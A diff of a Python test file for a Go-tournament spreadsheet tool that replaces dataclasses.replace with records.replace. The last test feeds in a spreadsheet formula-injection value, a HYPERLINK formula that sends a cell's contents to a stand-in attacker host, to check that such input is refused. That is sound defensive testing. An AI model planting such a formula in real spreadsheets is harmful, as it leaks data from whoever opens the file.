@@ -4,7 +4,6 @@ and workbooks that cannot be imported or exported, every problem reported at onc
 
 from __future__ import annotations
 
-import dataclasses
 from pathlib import Path
 
 import pytest
@@ -12,6 +11,7 @@ from openpyxl import load_workbook
 from support.books import sheet_rows
 from support.opengotha import NOW, export, imported_book, read_fixture, small
 
+from gosheet import records
 from gosheet.core.errors import InputError
 from gosheet.core.model import Game, Player, Result, Tournament
 from gosheet.core.pairing import Pairing
@@ -36,9 +36,7 @@ from gosheet.workbook.xlsx.book import XlsxBook
 
 def dated(og: OGTournament) -> OGTournament:
     """``og`` as an export at :data:`NOW` writes it: saved then (``saveDT``)."""
-    return dataclasses.replace(
-        og, attributes=og.attributes | {"saveDT": NOW.strftime("%Y%m%d%H%M%S")}
-    )
+    return records.replace(og, attributes=og.attributes | {"saveDT": NOW.strftime("%Y%m%d%H%M%S")})
 
 
 # --------------------------------------------------------------- rarer file contents
@@ -71,10 +69,10 @@ def test_unknown_attributes_and_elements_are_kept(tmp_path: Path) -> None:
     og = read_fixture("notsimplemm")
     first, second, third, fourth, *others = og.players
     players = (
-        dataclasses.replace(first, extra={**first.extra, "grade": "", "nickname": "A&B <x>"}),
-        dataclasses.replace(second, registering_status="PRE", participating="0" * 20),
-        dataclasses.replace(third, participating="101"),  # not OpenGotha's 20 characters
-        dataclasses.replace(fourth, egf_pin="12345678", smms_correction=-1),
+        records.replace(first, extra={**first.extra, "grade": "", "nickname": "A&B <x>"}),
+        records.replace(second, registering_status="PRE", participating="0" * 20),
+        records.replace(third, participating="101"),  # not OpenGotha's 20 characters
+        records.replace(fourth, egf_pin="12345678", smms_correction=-1),
         *others,
     )
     clubs = OGElement(
@@ -88,10 +86,10 @@ def test_unknown_attributes_and_elements_are_kept(tmp_path: Path) -> None:
     category = OGElement("Category", (("lowerLimit", "2K"), ("number", "1")))
     general = og.parameters["GeneralParameterSet"]
     games = list(og.games)
-    games[0] = dataclasses.replace(games[0], known_color=False, extra={"clock": "1:00"})
+    games[0] = records.replace(games[0], known_color=False, extra={"clock": "1:00"})
     byes = list(og.byes)
-    byes[0] = dataclasses.replace(byes[0], extra={"why": "odd"})
-    og = dataclasses.replace(
+    byes[0] = records.replace(byes[0], extra={"why": "odd"})
+    og = records.replace(
         og,
         players=players,
         games=tuple(games),
@@ -155,7 +153,7 @@ def test_a_long_element_is_kept_over_several_rows(tmp_path: Path) -> None:
         ),
     )
     og = read_fixture("simplemm")
-    og = read_opengotha(write_opengotha(dataclasses.replace(og, extra=(teams, *og.extra))))
+    og = read_opengotha(write_opengotha(records.replace(og, extra=(teams, *og.extra))))
     book = imported_book(og, tmp_path / "cup.xlsx")
     rows = [r for r in sheet_rows(book, "OpenGotha") if r[0] == "XML"]
     assert len(rows) >= 4 and all(len(r[3]) <= 30_000 for r in rows)
@@ -213,11 +211,11 @@ def test_what_gosheet_cannot_hold_is_reported_at_once() -> None:
 def test_formulas_and_overlong_values_are_refused(tmp_path: Path) -> None:
     og = read_fixture("simplemm")
     first, second, *others = og.players
-    og = dataclasses.replace(
+    og = records.replace(
         og,
         players=(
-            dataclasses.replace(first, club='=HYPERLINK("http://evil.example/"&A1)'),
-            dataclasses.replace(second, extra={**second.extra, "ratingOrigin": "=1+1"}),
+            records.replace(first, club='=HYPERLINK("http://evil.example/"&A1)'),
+            records.replace(second, extra={**second.extra, "ratingOrigin": "=1+1"}),
             *others,
         ),
         attributes={**og.attributes, "note": "x" * 40_000},
